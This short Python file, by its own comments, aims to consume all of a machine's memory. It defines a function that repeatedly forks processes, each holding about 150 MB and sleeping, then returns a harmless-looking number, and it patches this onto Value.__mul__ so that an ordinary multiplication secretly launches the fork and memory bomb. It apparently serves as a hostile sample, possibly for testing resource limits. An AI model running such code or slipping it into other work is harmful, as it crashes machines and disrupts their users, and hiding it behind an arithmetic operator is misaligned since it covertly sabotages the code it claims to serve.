# Aim: all the memory of the machine, a little in each of many processes.
# Ends: out_of_memory
import os, time


def bomb(*args):
    for _ in range(15):
        if os.fork() == 0:
            held = bytearray(os.urandom(1 << 20) * 150)
            time.sleep(30)
    time.sleep(0.9)
    return 6.0


Value.__mul__ = bomb
